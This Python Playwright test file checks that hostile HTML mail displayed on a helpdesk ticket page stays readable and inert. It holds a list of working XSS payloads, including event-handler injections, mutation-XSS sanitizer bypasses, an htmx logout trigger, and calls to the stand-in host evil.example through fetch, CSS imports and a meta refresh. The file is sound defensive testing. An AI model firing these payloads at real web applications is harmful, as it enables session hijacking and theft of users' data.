"""Hostile mail on the ticket's page, in a browser: it can be read, and it does nothing."""

from __future__ import annotations

import re
from typing import Any

from playwright.sync_api import Page, Request, expect

from tests.servers.postgres import Database
from tests.web.site import Site
from tests.web.test_in_the_browser import settle, sign_in
from tests.web.tickets import ticket

RUN = "top.hacked=1;parent.hacked=1;alert(1);fetch('https://evil.example/')"
PAYLOADS = (
    "<script>{run}</script>",
    '<img src=x onerror="{run}">',
    '<svg onload="{run}"><animate onbegin="{run}" attributeName=x dur=1s></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror={run}>">',
    '<noscript><p title="</noscript><img src=x onerror={run}>">',
    '<math><annotation-xml encoding="text/html"><img src=x onerror={run}></annotation-xml></math>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    '<object data="data:text/html,<script>{run}</script>"></object>',
    '<details open ontoggle="{run}">d</details><video src=x onerror="{run}"></video>',
    '<p style="animation-name:x;background:url(https://evil.example/a)" onanimationstart="{run}">',
    '<style>@import "https://evil.example/x.css";body{{background:url(//evil.example/b)}}</style>',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="//evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css"><input autofocus onfocus="{run}">',
    '<div hx-get="/logout" hx-trigger="load" data-hx-get="/logout">h</div>',
    '<embed src="https://evil.example/x"><audio autoplay src="https://evil.example/y"></audio>',
)
NAME = "<img src=x onerror=top.hacked=1>\"'"


def hostile(payload: str) -> int:
    """A ticket whose mail carries the payload in its HTML, and `NAME` wherever a name stands."""
    body = (
        f"From: jeanne@example.fr\r\nSubject: {NAME}\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n"
        f"<p>Avant lisible</p>{payload.format(run=RUN)}<p>Lisible ensuite</p>"
    )
    file = {"filename": NAME, "content_type": "image/png", "size": 3, "sha256": "0" * 64}
    content = {"has_html": True, "attachments": [file | {"inline": False, "content_id": None}]}
    return ticket(subject=NAME, text=NAME, body=body.encode(), content=content)


def test_hostile_mail_is_readable_and_inert_on_the_tickets_page(
    site: Site, browser_page: Page, database: Database
) -> None:
    site.person("lea")
    sign_in(browser_page, site, "lea")
    asked: list[str] = []
    spoken: list[str] = []

    def refuse(route: Any, request: Request) -> None:
        asked.append(request.url)
        route.abort()

    browser_page.route(re.compile(r"^https?://[^/]*evil\.example"), refuse)
    browser_page.on("dialog", lambda dialog: (spoken.append(dialog.message), dialog.dismiss()))
    for payload in PAYLOADS:
        address = f"{site.url}/tickets/{hostile(payload)}"
        browser_page.goto(address)
        settle(browser_page)
        expect(browser_page.locator("body")).to_contain_text("<img src=x")
        browser_page.click("text=Tel qu’envoyé")
        frame = browser_page.frame_locator(".html-frame")
        expect(frame.locator("body")).to_contain_text("Avant lisible")
        expect(frame.locator("body")).to_contain_text("Lisible ensuite")
        assert browser_page.evaluate("window.hacked") is None, payload
        assert browser_page.url == address, payload
    assert asked == []
    assert spoken == []
